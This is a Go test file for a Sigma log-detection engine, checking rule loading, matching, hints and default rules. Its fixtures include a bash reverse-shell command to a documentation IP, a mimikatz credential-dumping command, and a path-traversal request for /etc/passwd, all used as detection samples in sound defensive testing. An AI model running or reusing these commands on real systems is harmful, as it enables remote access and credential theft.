package sigma

import (
	"context"
	"strings"
	"testing"
	"testing/fstest"
)

// testRule builds a minimal Sigma rule YAML for testing.
func testRule(category, title, value string) []byte {
	return []byte(`title: ` + title + `
id: test-` + title + `
status: experimental
logsource:
  product: generic
  category: ` + category + `
detection:
  selection:
    message|contains: '` + value + `'
  condition: selection
level: high
`)
}

func TestEngine_New_LoadsRules(t *testing.T) {
	fakeFS := fstest.MapFS{
		"auth/test.yml": &fstest.MapFile{Data: testRule("log", "Test", "malware")},
		"README.md":     &fstest.MapFile{Data: []byte("not a rule")},
	}
	eng, err := New(fakeFS)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if eng.Len() != 1 {
		t.Errorf("expected 1 rule, got %d", eng.Len())
	}
}

func TestEngine_New_SkipsOtherCategories(t *testing.T) {
	fakeFS := fstest.MapFS{
		"a.yml": &fstest.MapFile{Data: testRule("log", "A", "x")},
		"b.yml": &fstest.MapFile{Data: testRule("process_creation", "B", "x")},
	}
	eng, err := New(fakeFS)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if eng.Len() != 1 {
		t.Errorf("expected 1 rule scoped to log lines, got %d", eng.Len())
	}
}

func TestEngine_New_InvalidRule(t *testing.T) {
	fakeFS := fstest.MapFS{
		"bad.yml": &fstest.MapFile{Data: []byte("title: [unterminated")},
	}
	if _, err := New(fakeFS); err == nil {
		t.Fatal("expected error for malformed rule")
	} else if !strings.Contains(err.Error(), "bad.yml") {
		t.Errorf("error should name the file: %v", err)
	}
}

func TestEngine_Match_Hit(t *testing.T) {
	eng, _ := New(fstest.MapFS{
		"m.yml": &fstest.MapFile{Data: testRule("log", "Mimikatz", "mimikatz")},
	})

	text := "Oct 19 10:00:01 host app: started\n\nOct 19 10:00:02 host cmd: mimikatz.exe sekurlsa::logonpasswords\n"
	matches := eng.Match(context.Background(), text)
	if len(matches) != 1 {
		t.Fatalf("expected 1 match, got %d", len(matches))
	}
	m := matches[0]
	if m.RuleTitle != "Mimikatz" || m.Level != "high" {
		t.Errorf("match = %+v", m)
	}
	if m.LineNo != 3 {
		t.Errorf("LineNo = %d, want 3", m.LineNo)
	}
	if !strings.HasPrefix(m.Line, "Oct 19 10:00:02") {
		t.Errorf("Line = %q", m.Line)
	}
}

func TestEngine_Match_OncePerRule(t *testing.T) {
	eng, _ := New(fstest.MapFS{
		"f.yml": &fstest.MapFile{Data: testRule("", "Failed", "Failed password")},
	})
	text := strings.Repeat("sshd: Failed password for admin from 10.0.0.5\n", 5)
	if got := len(eng.Match(context.Background(), text)); got != 1 {
		t.Errorf("expected 1 match, got %d", got)
	}
}

func TestEngine_Match_Miss(t *testing.T) {
	eng, _ := New(fstest.MapFS{
		"m.yml": &fstest.MapFile{Data: testRule("log", "Mimikatz", "mimikatz")},
	})
	if matches := eng.Match(context.Background(), "nginx: GET /index.html 200"); len(matches) != 0 {
		t.Errorf("expected 0 matches, got %d", len(matches))
	}
	if matches := eng.Match(context.Background(), "\n  \n"); matches != nil {
		t.Errorf("blank text should produce no matches, got %v", matches)
	}
}

func TestEngine_Hints(t *testing.T) {
	eng, _ := New(fstest.MapFS{
		"m.yml": &fstest.MapFile{Data: testRule("log", "Reverse shell", "/dev/tcp/")},
	})
	long := "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' " + strings.Repeat("A", 400)
	hints := eng.Hints(context.Background(), long)
	if len(hints) != 1 {
		t.Fatalf("expected 1 hint, got %v", hints)
	}
	if !strings.HasPrefix(hints[0], "[high] Reverse shell: bash -c") {
		t.Errorf("hint = %q", hints[0])
	}
	if !strings.HasSuffix(hints[0], "...") || len([]rune(hints[0])) > 250 {
		t.Errorf("long lines should be clipped: %d runes", len([]rune(hints[0])))
	}

	if hints := eng.Hints(context.Background(), "nothing here"); hints != nil {
		t.Errorf("expected no hints, got %v", hints)
	}
}

func TestEngine_DefaultRules(t *testing.T) {
	eng, err := NewDefault()
	if err != nil {
		t.Fatalf("NewDefault: %v", err)
	}
	if eng.Len() == 0 {
		t.Error("expected at least one embedded rule")
	}
}

func TestEngine_DefaultRules_MatchAttackFixture(t *testing.T) {
	eng, err := NewDefault()
	if err != nil {
		t.Fatalf("NewDefault: %v", err)
	}

	log := strings.Join([]string{
		"Oct 19 03:12:01 web01 sshd[811]: Failed password for invalid user admin from 203.0.113.7 port 52211 ssh2",
		"Oct 19 03:12:09 web01 sshd[811]: Accepted password for root from 203.0.113.7 port 52214 ssh2",
		`203.0.113.7 - - [19/Oct/2026:03:13:00 +0000] "GET /download?file=../../../../etc/passwd HTTP/1.1" 200 1834`,
		"Oct 19 03:14:22 web01 bash[902]: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
	}, "\n")

	titles := map[string]bool{}
	for _, m := range eng.Match(context.Background(), log) {
		titles[m.RuleTitle] = true
	}
	for _, want := range []string{
		"SSH authentication failure",
		"SSH login as root",
		"Path traversal in web request",
		"Reverse shell command line",
	} {
		if !titles[want] {
			t.Errorf("expected rule %q to match; got %v", want, titles)
		}
	}
}

func TestEngine_DefaultRules_BenignLog(t *testing.T) {
	eng, err := NewDefault()
	if err != nil {
		t.Fatalf("NewDefault: %v", err)
	}
	log := "Oct 19 09:00:00 web01 systemd[1]: Started nginx.service.\n" +
		`10.0.0.2 - - [19/Oct/2026:09:00:01 +0000] "GET /healthz HTTP/1.1" 200 2`
	if matches := eng.Match(context.Background(), log); len(matches) != 0 {
		t.Errorf("benign log should not match, got %+v", matches)
	}
}
